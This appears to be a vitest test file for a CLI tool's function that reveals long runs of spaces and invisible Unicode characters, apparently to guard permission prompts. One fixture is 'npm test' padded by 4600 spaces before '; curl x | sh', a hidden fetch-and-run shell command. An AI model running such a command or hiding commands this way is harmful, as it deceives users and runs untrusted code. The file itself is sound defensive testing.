import { runInNewContext } from "node:vm";

import { expect, it } from "vitest";

import { MAX_INDENTATION, visibleBlanks } from "../../../src/core/text/visible-blanks.ts";
import { questionLines } from "../../../src/cli/output/question-lines.ts";

const spaces = (count: number): string => " ".repeat(count);

it.each([
  [`npm test${spaces(4600)}; curl x | sh`, "npm test<4600 spaces>; curl x | sh"],
  [`a${"\t".repeat(9)}b${"\u00a0".repeat(20)}c`, "a<9 spaces>b<20 spaces>c"],
  [`a${"\u2800".repeat(9)}b${" \u200d".repeat(100)}c`, "a<9 spaces>b<200 spaces>c"],
  [`a${"\u{1d159}".repeat(9)}b${"\u{13441}\u{16fe4}".repeat(10)}c`, "a<9 spaces>b<20 spaces>c"],
  [`a${"\n".repeat(41)}b`, "a\n<40 blank lines>\nb"],
  [`a\n${spaces(9)}b`, "a\n<9 spaces>b"],
  ["a\n        b  c\n\n\nd", "a\n        b  c\n\n\nd"],
])("[PERMISSION-89] shows the blanks of %j", (text, expected) => {
  expect(visibleBlanks(text)).toBe(expected);
});

it.each([
  [`${spaces(40)}a${spaces(9)}b`, `${spaces(40)}a<9 spaces>b`],
  [`${spaces(41)}a`, "<41 spaces>a"],
  [`+${spaces(40)}a\n-${spaces(41)}b`, `+${spaces(40)}a\n-<41 spaces>b`],
  [`a+${spaces(20)}b\n++${spaces(20)}c`, "a+<20 spaces>b\n++<20 spaces>c"],
])("[TERM-43] keeps the indentation of %j", (text, expected) => {
  expect(visibleBlanks(text, MAX_INDENTATION)).toBe(expected);
});

it("[TERM-43] returns for every mix of blanks and line feeds", () => {
  // U+FEFF is white space and has no shape either
  const text = `${"\ufeff".repeat(8)}\n`.repeat(9);
  const shown: unknown = runInNewContext(
    "visibleBlanks(text)",
    { visibleBlanks, text: `${text}a` },
    { timeout: 20_000 },
  );
  expect(shown).toBe(`${text}a`);
});

it("[QUESTION-36] a question in lines shows them, too", () => {
  const hidden = `yes${spaces(4600)}and all`;
  expect(
    questionLines({
      text: hidden,
      choices: [{ id: "1", label: hidden, meaning: null, lasting: [hidden] }],
    }),
  ).toEqual([
    "  yes<4600 spaces>and all",
    "  The longer answers count for yes<4600 spaces>and all.",
    "  1. yes<4600 spaces>and all",
  ]);
});
